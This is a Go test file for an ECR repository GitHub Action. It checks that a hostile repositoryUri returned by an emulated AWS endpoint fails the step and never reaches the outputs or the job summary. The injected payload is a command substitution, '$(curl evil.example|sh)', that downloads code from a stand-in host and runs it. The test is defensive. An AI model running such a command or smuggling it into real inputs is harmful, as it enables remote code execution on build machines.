package action_test

import (
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/ecr-reconcile/ecr-reconcile/internal/support/emulator"
)

// newEnvRewriting is newEnv behind an endpoint that lets the emulator
// answer op, then rewrites the answer with edit.
func newEnvRewriting(t *testing.T, op string, edit func(string) string) *env {
	t.Helper()
	emu := emulator.New(emulator.Options{})
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if !strings.HasSuffix(r.Header.Get("X-Amz-Target"), "."+op) {
			emu.ServeHTTP(w, r)
			return
		}
		rec := httptest.NewRecorder()
		emu.ServeHTTP(rec, r)
		for k, v := range rec.Header() {
			w.Header()[k] = v
		}
		w.Header().Del("Content-Length")
		w.WriteHeader(rec.Code)
		_, _ = w.Write([]byte(edit(rec.Body.String())))
	}))
	t.Cleanup(srv.Close)
	e := newEnv(t)
	e.emu, e.url = emu, srv.URL
	e.vars["GITHUB_OUTPUT"] = filepath.Join(e.workspace, "output.txt")
	return e
}

// A repository URI of the wrong shape from the endpoint (private or ECR
// Public) fails the step with an error naming the call and the field, and
// reaches no output and no summary: a later `docker build -t URI` step
// never runs it.
func TestHostileRepositoryURIReachesNoOutput(t *testing.T) {
	t.Parallel()
	const payload = "`\n$(curl evil.example|sh)"
	for _, tc := range []struct {
		name   string
		public bool
		uri    *regexp.Regexp
	}{
		{"private", false, regexp.MustCompile(`"repositoryUri":"[^"]*"`)},
		{"ECR Public", true, regexp.MustCompile(`"repositoryUri":"public\.ecr\.aws/[^/"]*`)},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			e := newEnvRewriting(t, "CreateRepository", func(body string) string {
				if tc.public {
					return tc.uri.ReplaceAllLiteralString(body, `"repositoryUri":"public.ecr.aws/a`+strings.ReplaceAll(payload, "\n", `\n`))
				}
				return tc.uri.ReplaceAllLiteralString(body, `"repositoryUri":"123456789012.dkr.ecr.us-east-1.amazonaws.com/app`+strings.ReplaceAll(payload, "\n", `\n`)+`"`)
			})
			in := map[string]string{"repository": "app"}
			if tc.public {
				in["public"] = "true"
			}
			log, err := e.run(t, in)
			if err == nil {
				t.Fatalf("the step succeeded:\n%s", log)
			}
			service := map[bool]string{false: "ecr", true: "ecr-public"}[tc.public]
			if a := annotations(log, "error"); len(a) != 1 || !strings.Contains(a[0], service+":CreateRepository answered a repositoryUri that does not have the shape") {
				t.Errorf("error annotations %q", a)
			}
			if b, err := os.ReadFile(e.vars["GITHUB_OUTPUT"]); strings.Contains(string(b), "curl") || (err != nil && !os.IsNotExist(err)) {
				t.Errorf("the outputs carry the answer (%v):\n%s", err, b)
			}
			if s := e.summary(t); strings.Contains(s, "curl") {
				t.Errorf("the summary carries the answer:\n%s", s)
			}
		})
	}
}
